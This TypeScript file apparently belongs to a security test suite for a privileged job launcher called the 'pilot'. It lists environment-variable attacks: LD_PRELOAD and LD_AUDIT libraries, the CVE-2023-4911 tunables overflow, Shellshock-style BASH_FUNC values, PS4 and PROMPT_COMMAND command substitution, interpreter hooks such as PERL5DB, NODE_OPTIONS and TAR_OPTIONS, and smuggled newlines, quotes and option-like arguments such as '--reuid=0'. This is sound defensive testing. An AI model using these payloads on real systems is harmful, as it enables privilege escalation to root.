/**
 * Names of the environment that loaders, shells, interpreters, locales and libraries obey: whatever runs before the payload
 * has its own account must see none of them.
 *
 * Each points at the planter's tools, which say as whom they run and what they can read. The payload itself obeys these
 * names too, which is its own affair: only code that ran elsewhere counts.
 */

import { type Attack, type Machine, type Payload, type Reach, type Scene, type Tool, sh } from '../attack.ts'
import { knowledge } from '../scripts.ts'

type Environment = Readonly<Record<string, string>>

/** The job itself does nothing: what counts is what else obeys its environment. */
function started(scene: Scene, environment: Environment): Payload {
  return sh('exit 0', { environment: { ...knowledge(scene), HOSTILE_PLANT: scene.plantDir, ...environment } })
}

type Names = (plant: string, scene: Scene) => Environment

function byName(name: string, about: string, names: Names, needs: readonly Tool[] = []): Attack {
  return {
    name,
    about,
    reaches: 'the pilot, and root through its powers',
    needs,
    payload: (scene) => started(scene, names(scene.plantDir, scene)),
  }
}

/** Code that no payload needs in order to be started: a library of the planter, a tracer of the shell, a module. */
const loaders: readonly Attack[] = [
  byName('ld-preload', 'a library with a constructor', (plant) => ({ LD_PRELOAD: `${plant}/evil.so` }), ['gcc']),
  byName('ld-audit', 'an auditor of the loader', (plant) => ({ LD_AUDIT: `${plant}/evil.so` }), ['gcc']),
  byName('ld-library-path', 'libraries of the names that starters load', (plant) => ({ LD_LIBRARY_PATH: `${plant}/lib` }), [
    'gcc',
  ]),
  byName('ld-origin', 'other names that loaders have known', (plant) => ({
    LD_ORIGIN_PATH: `${plant}/lib`,
    LD_ORIGIN: `${plant}/lib`,
    LD_AOUT_PRELOAD: `${plant}/evil.so`,
    LD_PREFER_MAP_32BIT_EXEC: '1',
    LD_BIND_NOW: '1',
  })),
  {
    ...byName('ld-debug-output', 'the loader writes its trace into a folder of the pilot', (_, scene) => ({
      LD_DEBUG: 'all',
      LD_DEBUG_OUTPUT: `${scene.credentialDir}/${scene.marker}`,
    })),
    reaches: 'files in the pilot’s folders',
    judge: (scene, _, machine) => filesOf(machine, scene.credentialDir, scene.marker),
  },
  {
    ...byName('ld-profile', 'the loader writes a profile into a folder of the pilot', (_, scene) => ({
      LD_PROFILE: 'libc.so.6',
      LD_PROFILE_OUTPUT: scene.credentialDir,
    })),
    reaches: 'files in the pilot’s folders',
    judge: (scene, _, machine) => filesOf(machine, scene.credentialDir, '.profile'),
  },
  byName('gconv-path', 'a module for a character set', (plant) => ({
    GCONV_PATH: `${plant}/gconv`,
    LC_ALL: 'de_DE.HOSTILE',
    CHARSET: 'HOSTILE',
    OUTPUT_CHARSET: 'HOSTILE',
  })),
  byName('locale-path', 'locales and messages of its own', (plant) => ({
    LOCPATH: plant,
    NLSPATH: `${plant}/%N`,
    LANGUAGE: `../../../..${plant}`,
    TEXTDOMAINDIR: plant,
    LC_ALL: 'xx_XX',
  })),
  byName('malloc', 'tunables and traces of the allocator', (_, scene) => ({
    GLIBC_TUNABLES: 'glibc.malloc.check=3:glibc.malloc.perturb=165:glibc.rtld.nns=1',
    MALLOC_TRACE: `${scene.credentialDir}/${scene.marker}`,
    MALLOC_CHECK_: '3',
    MALLOC_PERTURB_: '165',
  })),
  {
    ...byName('tunables-overflow', 'a tunable of a tunable, as CVE-2023-4911 has it', () => ({
      GLIBC_TUNABLES: `glibc.malloc.mxfast=glibc.malloc.mxfast=${'A'.repeat(3000)}`,
      Z: 'A'.repeat(4000),
    })),
  },
]

const shells: readonly Attack[] = [
  byName('bash-env', 'a file that bash reads first', (plant) => ({ BASH_ENV: `${plant}/rc` })),
  byName('env-of-sh', 'a file that sh reads first', (plant) => ({ ENV: `${plant}/rc`, PS1: '$' })),
  byName('shellopts-ps4', 'a trace whose prompt is a command', (plant) => ({
    SHELLOPTS: 'xtrace',
    BASHOPTS: 'extdebug',
    PS4: `$(/bin/sh ${plant}/proof.sh)`,
  })),
  byName('prompt-command', 'prompts that are commands', (plant) => ({
    PROMPT_COMMAND: `/bin/sh ${plant}/proof.sh`,
    PS0: `$(/bin/sh ${plant}/proof.sh)`,
    PS1: `$(/bin/sh ${plant}/proof.sh)`,
    BASH_XTRACEFD: '1',
  })),
  byName('bash-functions', 'functions in place of commands', (plant) =>
    Object.fromEntries(
      ['echo', 'exec', 'cd', 'ulimit', 'setpriv', 'cat', 'test', '[', 'printf', 'read'].map((name) => [
        `BASH_FUNC_${name}%%`,
        `() { /bin/sh ${plant}/proof.sh; builtin ${name} "$@"; }`,
      ]),
    ),
  ),
  byName('shellshock', 'a function with a command behind it', (plant) => ({
    HOSTILE_F: `() { :; }; /bin/sh ${plant}/proof.sh`,
    'BASH_FUNC_x%%': `() { :; }; /bin/sh ${plant}/proof.sh`,
  })),
  byName('field-separator', 'other separators of words', () => ({
    IFS: '/e',
    CDPATH: '/',
    GLOBIGNORE: '*',
    POSIXLY_CORRECT: '1',
  })),
  byName('path-first', 'the planter’s programs before the system’s', (plant) => ({ PATH: `${plant}/bin:/usr/bin:/bin` })),
  byName('path-here', 'a search path that begins where the job is', (plant) => ({ PATH: `.:${plant}/bin`, EXECIGNORE: '' })),
  byName('shell-itself', 'the planter’s shell as the user’s', (plant) => ({
    SHELL: `${plant}/bin/sh`,
    BASH: `${plant}/bin/sh`,
    EDITOR: `${plant}/bin/sh`,
    PAGER: `${plant}/bin/sh`,
  })),
]

const interpreters: readonly Attack[] = [
  byName('perl-options', 'options and modules of perl', (plant) => ({ PERL5OPT: '-MEvil', PERL5LIB: `${plant}/perl` })),
  byName('perl-debugger', 'a debugger of perl', (plant) => ({
    PERL5OPT: '-d',
    PERL5LIB: `${plant}/perl`,
    PERL5DB: 'BEGIN { system("/bin/sh", "$ENV{HOSTILE_PLANT}/proof.sh") }',
  })),
  byName('python-path', 'a site of python', (plant) => ({ PYTHONPATH: `${plant}/py`, PYTHONUSERBASE: `${plant}/py` })),
  byName('python-home', 'another home of python', (plant) => ({
    PYTHONHOME: plant,
    PYTHONSTARTUP: `${plant}/py/sitecustomize.py`,
    PYTHONINSPECT: '1',
    PYTHONWARNINGS: 'all:0:antigravity.x:0:0',
    BROWSER: `${plant}/bin/sh`,
  })),
  byName('node-options', 'a module that node loads first', (plant) => ({
    NODE_OPTIONS: `--require ${plant}/evil.cjs`,
    NODE_PATH: plant,
  })),
  {
    ...byName('node-files', 'what node writes where it is pointed at', (_, scene) => ({
      NODE_V8_COVERAGE: `${scene.credentialDir}/${scene.marker}`,
      NODE_COMPILE_CACHE: `${scene.credentialDir}/${scene.marker}`,
      NODE_REDIRECT_WARNINGS: `${scene.credentialDir}/${scene.marker}`,
    })),
    reaches: 'files in the pilot’s folders',
    judge: (scene, _, machine) => filesOf(machine, scene.credentialDir, scene.marker),
  },
  byName('ruby-and-java', 'options of other interpreters', (plant) => ({
    RUBYOPT: `-r${plant}/evil`,
    JAVA_TOOL_OPTIONS: `-javaagent:${plant}/evil.jar`,
    LUA_INIT: `os.execute("/bin/sh ${plant}/proof.sh")`,
    AWKPATH: plant,
    GREP_OPTIONS: '-r',
    TAR_OPTIONS: `--checkpoint=1 --checkpoint-action=exec=${plant}/proof.sh`,
  })),
]

const places: readonly Attack[] = [
  {
    ...byName('folders', 'the pilot’s folder as home, temporary and runtime folder', (_, scene) => ({
      TMPDIR: scene.credentialDir,
      HOME: scene.credentialDir,
      XDG_RUNTIME_DIR: scene.credentialDir,
      XDG_CONFIG_HOME: scene.plantDir,
      XDG_CACHE_HOME: scene.credentialDir,
    })),
    reaches: 'files in the pilot’s folders',
  },
  byName('time-zone', 'a secret as the time zone', (_, scene) => ({
    TZ: `:${scene.secretFiles.credential}`,
    TZDIR: scene.credentialDir,
    DATEMSK: scene.secretFiles.credential ?? '',
  })),
  byName('resolver', 'a secret as the list of host names', (_, scene) => ({
    HOSTALIASES: scene.secretFiles.credential ?? '',
    RES_OPTIONS: 'debug',
    LOCALDOMAIN: 'hostile',
    RESOLV_HOST_CONF: scene.secretFiles.credential ?? '',
  })),
  byName('systemd-names', 'sockets that systemd hands over', (plant, scene) => ({
    NOTIFY_SOCKET: `${scene.credentialDir}/notify`,
    LISTEN_FDS: '5',
    LISTEN_PID: '1',
    DBUS_SESSION_BUS_ADDRESS: `unixexec:path=${plant}/bin/sh`,
    DBUS_SYSTEM_BUS_ADDRESS: `unixexec:path=${plant}/bin/sh`,
    INVOCATION_ID: scene.marker,
  })),
  byName('agent-names', 'the agents’ own names', (plant) => ({
    PILOTAGE_ROOT: plant,
    PILOTAGE_DIR: '/',
    PILOTAGE_VM_ID: 'vm-another000',
    PILOTAGE_NODE: `${plant}/bin/node`,
  })),
]

/** For a starter that hands the environment over as arguments of its own. */
const options: readonly Attack[] = [
  byName('names-like-options', 'names of variables that look like options', (plant) => ({
    '-S': `/bin/sh ${plant}/proof.sh`,
    '--split-string': `/bin/sh ${plant}/proof.sh`,
    '--bind': '/',
    '--dev-bind': '/ /',
    '-': '-',
    '--': `/bin/sh ${plant}/proof.sh`,
    '--uid': '0',
    '--cap-add': 'ALL',
  })),
  byName('values-with-lines', 'values that look like further variables', (plant) => ({
    A: `x\nLD_PRELOAD=${plant}/evil.so\nBASH_ENV=${plant}/rc\n`,
    B: `'; /bin/sh ${plant}/proof.sh; '`,
    C: `$(/bin/sh ${plant}/proof.sh)`,
    D: `\`/bin/sh ${plant}/proof.sh\``,
  })),
  byName('environment-flood', 'more variables than a starter may expect', (plant) => ({
    ...Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`V${at}`, 'x'.repeat(200)])),
    LD_PRELOAD: `${plant}/evil.so`,
  })),
  {
    name: 'program-like-an-option',
    about: 'a program whose name is an option of what starts it',
    reaches: 'the pilot, by options of its own starter',
    payload: (scene) => ({
      executable: '--reuid=0',
      arguments: ['--dev-bind', '/', '/', '--', '/bin/sh', `${scene.plantDir}/proof.sh`],
      environment: { ...knowledge(scene), HOSTILE_PLANT: scene.plantDir },
    }),
  },
  {
    name: 'arguments-like-options',
    about: 'arguments that are options of what starts it',
    reaches: 'the pilot, by options of its own starter',
    payload: (scene) => ({
      executable: 'sh',
      arguments: ['--', '-c', `/bin/sh ${scene.plantDir}/proof.sh`, '--reuid=0', '--args', '3', '$(id)', '`id`', "'; id; '"],
      environment: { ...knowledge(scene), HOSTILE_PLANT: scene.plantDir, PATH: `${scene.plantDir}/bin` },
    }),
  },
]

function filesOf(machine: Machine, dir: string, part: string): readonly Reach[] {
  const names = machine.namesIn(dir).filter((name) => name.includes(part))
  return names.slice(0, 1).map((name) => ({ what: 'pilot-files', evidence: `${dir}/${name}` }))
}

export const environmentAttacks: readonly Attack[] = [...loaders, ...shells, ...interpreters, ...places, ...options]
